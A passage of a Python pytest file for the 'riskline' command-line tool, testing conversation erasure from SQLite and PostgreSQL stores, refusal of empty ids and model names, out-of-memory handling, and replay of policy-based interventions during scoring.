    # a model named by an empty string: before, the working folder ("not a Riskline model directory"), and an empty
    # RISKLINE_MODEL the default model, without a word
    for args, env, said in [
        (["score", "events.jsonl", "-o", out / "s.jsonl", "--model", ""], {}, "''"),
        (["score", "events.jsonl", "-o", out / "s.jsonl"], {"RISKLINE_MODEL": ""}, "RISKLINE_MODEL: ''"),
        (["explain", "events.jsonl", "--conversation", "c", "--model", " "], {}, "' '"),
        (["evaluate", "--data", "events.jsonl", "--model", "", "--no-track"], {}, "''"),
        (["thresholds", "--data", "events.jsonl", "--out", out / "m", "--model", "", "--no-track"], {}, "''"),
    ]:
        done = CliRunner().invoke(app, list(map(str, args)), env=env)
        assert done.exit_code == 2, (args, done.output)
        assert f"{said}: an empty model name (an unset variable?)" in done.output, (args, done.output)
    assert not any(out.iterdir())


@pytest.mark.slow
def test_erase_forgets_conversations_in_a_workers_store(tmp_path: Path, postgres_url: str) -> None:
    """``riskline erase`` for a store no service fronts (a stream worker's): SQLite by path, from
    ``RISKLINE_STATE`` and PostgreSQL by URL; a store that is not there is one line, not a new empty one."""
    from detection.postgres_store import PostgresStore
    from detection.sqlite_store import SQLiteStore
    from detection.state import ConversationState
    from detection.store import Conversation
    from tests.service_helpers import fresh_database

    def fill(store: SQLiteStore | PostgresStore, *ids: str) -> None:
        for cid in ids:
            store.commit([Conversation(ConversationState(cid, n_messages=1), "high", frozenset({"high"}))],
                         [(cid, "m1", {})], [{"intervention_id": f"{cid}-high", "conversation_id": cid}], ["webhook"])

    path = tmp_path / "state.db"
    fill(SQLiteStore(path), "a", "b", "c")
    done = riskline("erase", "a", "a", "nope", "--state", f"sqlite:///{path}")
    assert done.returncode == 0, done.stderr
    assert done.stdout == "erased 1 conversation; 1 not held (unknown, or erased before)\n"
    # `riskline erase "$CID"` with CID unset: before, "1 not held" and status 0, as if the request were done
    empty = riskline("erase", "b", "", "--state", path)
    assert empty.returncode == 2 and empty.stderr == "riskline: error: CONVERSATION_ID '': empty: no message has " \
                                                     "that id; nothing was erased\n"
    assert riskline("erase", " b ", "c", env={"RISKLINE_STATE": str(path)}).stdout == "erased 2 conversations\n"
    store = SQLiteStore(path)
    assert store.load(["a", "b", "c"]) == {} and store.outbox_stats() == (0, None)
    store.close()
    # a batch of erasure requests, one id a line, from a file or standard input, beside ids given as arguments
    fill(SQLiteStore(path), "d", "e", "f", "g", "h")
    (tmp_path / "ids.txt").write_text("\ufeffd\n e \nnope\n")  # as Excel's "Unicode text" and a hand can write it
    listed = riskline("erase", "f", "--from", tmp_path / "ids.txt", "--state", path)
    assert listed.returncode == 0 and listed.stdout == "erased 3 conversations; 1 not held (unknown, or erased " \
                                                       "before)\n", listed.stderr
    (tmp_path / "gap.txt").write_text("g\n\nh\n")  # a blank line is an empty id: refused, as in arguments
    gap = riskline("erase", "--from", tmp_path / "gap.txt", "--state", path)
    assert gap.returncode == 2 and gap.stderr == f"riskline: error: --from {tmp_path / 'gap.txt'}: line 2: '': " \
                                                 "empty: no message has that id; nothing was erased\n"
    assert riskline("erase", "--from", "-", "--state", path, stdin="g\nh\n").stdout == "erased 2 conversations\n"
    none = riskline("erase", "--state", path)
    assert none.returncode == 2 and "no conversation named: give CONVERSATION_ID... or --from FILE" in none.stderr
    empty = riskline("erase", "--from", "-", "--state", path, stdin="")  # it was said to name none at all
    assert (empty.returncode, empty.stderr) == (2, "riskline: error: --from -: no conversation ids in it; nothing "
                                                   "was erased\n")
    store = SQLiteStore(path)
    assert store.load(["d", "e", "f", "g", "h"]) == {}
    store.close()
    missing = riskline("erase", "a", "--state", tmp_path / "typo.db")
    assert missing.returncode == 2 and "typo.db: no state store there" in missing.stderr
    assert not (tmp_path / "typo.db").exists()
    # read from a secret file whole, its last line break kept: refused as the service refuses it
    for args, env, named in ((("--state", f"{path}\n"), {}, "--state"), ((), {"RISKLINE_STATE": f"{path}\n"},
                                                                           "RISKLINE_STATE")):
        stray = riskline("erase", "a", *args, env=env)
        assert (stray.returncode, stray.stderr) == (
            2, f"riskline: error: {named}: has a line break at its end; remove it; nothing was erased\n")
    url = fresh_database(postgres_url)
    shared = PostgresStore(url)
    fill(shared, "p1", "p2")
    assert riskline("erase", "p1", "--state", url).stdout == "erased 1 conversation\n"
    assert shared.load(["p1", "p2"]).keys() == {"p2"} and shared.interventions("p1") == []
    shared.close()


def test_out_of_memory_is_one_line_and_writes_nothing(events_path: Path, model_dir: Path, tmp_path: Path,
                                                      monkeypatch: pytest.MonkeyPatch) -> None:
    """Under a limit on a process's memory (`ulimit -v`), Python raises MemoryError where an allocation fails: here
    while the output is half-written. One line, status 2, and no output (nor its staging file) left."""
    from typer.testing import CliRunner

    import detection.batch
    from detection.cli import app

    def rows_then_no_memory(steps: object) -> Iterator[dict[str, object]]:
        yield from itertools.islice(real(steps), 3)
        raise MemoryError
    real = detection.batch.step_rows
    monkeypatch.setattr(detection.batch, "step_rows", rows_then_no_memory)
    out = tmp_path / "out" / "scores.csv"
    out.parent.mkdir()
    run = CliRunner().invoke(app, ["score", str(events_path), "-o", str(out), "--per-message", "--model",
                                   str(model_dir)])
    assert run.exit_code == 2 and run.stderr == (
        "riskline: error: out of memory: the process could not have more (the machine's, or a limit such as "
        "`ulimit -v`); the output in hand was not written. Give it more memory\n")
    assert list(out.parent.iterdir()) == []


def test_score_writes_the_interventions_the_service_would_raise(labelled_path: Path, model_dir: Path,
                                                                model: RiskModel, tmp_path: Path) -> None:
    """``--interventions`` replays the policy over the file: the interventions the service would raise on these
    messages (``detection.replay_interventions``), the same from both local engines, counted by level; under a
    policy file of the deployment's own with ``--policy``, or with ``RISKLINE_POLICY`` as the service reads it.
    Mistakes are said before any work."""
    from detection.readers import read_events
    from detection.replay import replay_interventions

    expected = json.loads(json.dumps(replay_interventions(model, read_events(labelled_path).events)))
    assert len(expected) > 100 and [i["created_at"] for i in expected] == sorted(i["created_at"] for i in expected)
    written = {}
    for engine, env in (("memory", {}), ("partitioned", {"RISKLINE_PARALLEL_MIN_BYTES": "0"})):
        done = riskline("score", labelled_path, "-o", tmp_path / f"{engine}.jsonl", "--model", model_dir,
                        "--interventions", tmp_path / f"{engine}-iv.jsonl", "--workers", "2", env=env)
        assert done.returncode == 0, done.stderr
        written[engine] = (tmp_path / f"{engine}-iv.jsonl").read_text()
        assert [json.loads(line) for line in written[engine].splitlines()] == expected
        counts = {level: sum(i["level"] == level for i in expected) for level in ("high", "critical")}
        assert done.stderr.splitlines()[-1] == (
            f"{len(expected)} interventions the service would raise ({counts['high']} high, {counts['critical']} "
            f"critical) under the default policy -> {tmp_path / f'{engine}-iv.jsonl'}")
    assert written["memory"] == written["partitioned"]
    policy = tmp_path / "policy.yaml"
    policy.write_text("levels:\n  medium: {action: watch}\n")
    done = riskline("score", labelled_path, "-o", tmp_path / "own.jsonl", "--model", model_dir, "--workers", "2",
                    "--interventions", tmp_path / "own-iv.jsonl.gz", "--policy", policy,
                    env={"RISKLINE_PARALLEL_MIN_BYTES": "0"})  # the partitioned engine's workers get the policy
    assert done.returncode == 0, done.stderr
    own = [json.loads(line) for line in gzip.decompress((tmp_path / "own-iv.jsonl.gz").read_bytes()).splitlines()]
    assert own == json.loads(json.dumps(replay_interventions(model, read_events(labelled_path).events, policy)))
    assert {i["action"] for i in own} == {"watch"} and len(own) >= sum(i["level"] == "high" for i in expected)
    assert done.stderr.splitlines()[-1].endswith(f"({len(own)} medium) under the policy {policy} -> "
                                                 f"{tmp_path / 'own-iv.jsonl.gz'}")
    # the service's own variable, as a deployment sets it: the replay is what that deployment would raise
    done = riskline("score", labelled_path, "-o", tmp_path / "env.jsonl", "--model", model_dir,
                    "--interventions", tmp_path / "env-iv.jsonl", env={"RISKLINE_POLICY": str(policy)})
    assert done.returncode == 0 and done.stderr.splitlines()[-1].endswith(f"under the policy {policy} -> "
                                                                          f"{tmp_path / 'env-iv.jsonl'}")
    assert [json.loads(line) for line in (tmp_path / "env-iv.jsonl").read_text().splitlines()] == own
    (tmp_path / "bad.yaml").write_text("levels:\n  urgent: {action: call}\n")
    for args, said in (
            (["--policy", policy], f"--policy {policy}: the policy of --interventions, which was not given"),
            (["--interventions", tmp_path / "iv.csv"], f"--interventions {tmp_path / 'iv.csv'}: interventions are "
                                                       "written as JSON Lines"),
            (["--interventions", tmp_path / "iv.jsonl", "--policy", tmp_path / "bad.yaml"],
             f"{tmp_path / 'bad.yaml'}: policy: unknown level(s) ['urgent']"),
            (["--interventions", tmp_path / "out.jsonl"], "--interventions")):
        refused = riskline("score", labelled_path, "-o", tmp_path / "out.jsonl", "--model", model_dir, *args)
        assert refused.returncode == 2 and refused.stderr.startswith(f"riskline: error: {said}"), refused.stderr
        assert not (tmp_path / "out.jsonl").exists() and not (tmp_path / "iv.jsonl").exists()
    for named, said in (("", "is empty (an unset variable?); unset it for the default policy"),
                        (str(tmp_path / "bad.yaml"), f"{tmp_path / 'bad.yaml'}: policy: unknown level(s) ['urgent']")):
        refused = riskline("score", labelled_path, "-o", tmp_path / "out.jsonl", "--model", model_dir,
                           "--interventions", tmp_path / "iv.jsonl", env={"RISKLINE_POLICY": named})
        assert refused.returncode == 2 and refused.stderr.startswith(
            f"riskline: error: environment variable RISKLINE_POLICY: {said}"), refused.stderr
        assert not (tmp_path / "out.jsonl").exists() and not (tmp_path / "iv.jsonl").exists()
